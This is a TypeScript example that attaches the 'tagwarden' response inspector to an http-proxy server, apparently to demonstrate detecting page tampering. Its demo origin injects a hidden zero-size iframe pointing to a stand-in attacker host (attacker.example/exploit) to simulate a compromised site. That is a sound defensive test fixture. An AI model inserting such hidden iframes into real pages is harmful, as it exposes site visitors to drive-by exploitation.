/**
 * tagwarden in your own http-proxy server: the proxy's `proxyRes` handling, as `tagwarden proxy`
 * does it, attached to a proxy you already run.
 *
 *   PORT=3000 node --import tsx examples/http-proxy.ts
 *
 * It starts an origin on a free port serving examples/pages/shop.html (and, at /injected, the page
 * with an attack <iframe> inserted, as a compromised origin would), and the proxy in front of it on
 * PORT. Open http://127.0.0.1:3000/ and /injected through the proxy.
 * (In your code: `import { attachInspector } from 'tagwarden/embed'`.)
 */
import { readFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { gzipSync } from 'node:zlib'
import httpProxy from 'http-proxy'
import { attachInspector } from '../src/entries/embed.js'

const page = readFileSync(new URL('./pages/shop.html', import.meta.url), 'utf8')
const ATTACK = '<iframe src="http://attacker.example/exploit" width="0" height="0"></iframe>'

// The origin: gzip-compressed pages, as most origins send them (tagwarden decompresses to read them;
// the client gets the origin's compressed bytes).
const origin = createServer((req, res) => {
  const body = gzipSync(req.url === '/injected' ? page.replace('<main>', `<main>${ATTACK}`) : page)
  res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8', 'Content-Encoding': 'gzip' })
  res.end(body)
})
await new Promise<void>((resolve) => origin.listen(0, '127.0.0.1', resolve))

// Your proxy: selfHandleResponse, so that tagwarden writes the responses.
const proxy = httpProxy.createProxyServer({
  target: `http://127.0.0.1:${(origin.address() as AddressInfo).port}`,
  selfHandleResponse: true,
})
attachInspector(proxy, {
  policy: new URL('./policies/learned.json', import.meta.url),
  onViolation: (v, req) =>
    console.log(`violation: ${v.directive} <${v.element} ${v.attribute}="${v.value}"> on ${req.url}`),
})
const server = createServer((req, res) =>
  proxy.web(req, res, {}, () => {
    // Before the upstream answered (refused, unreachable): the proxy's own error handling.
    res.writeHead(502, { 'Content-Type': 'text/plain' })
    res.end('upstream unavailable\n')
  }),
)
server.listen(Number(process.env.PORT ?? 3000), '127.0.0.1', () => {
  console.log(`listening on http://127.0.0.1:${(server.address() as AddressInfo).port}`)
})
